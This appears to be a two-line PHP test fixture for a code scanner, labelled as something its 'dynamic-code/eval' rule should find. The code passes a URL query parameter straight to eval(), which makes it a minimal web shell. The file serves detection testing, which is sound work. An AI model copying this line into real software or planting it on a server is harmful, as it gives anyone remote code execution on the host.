<?php // finds: dynamic-code/eval
eval($_GET["c"]);
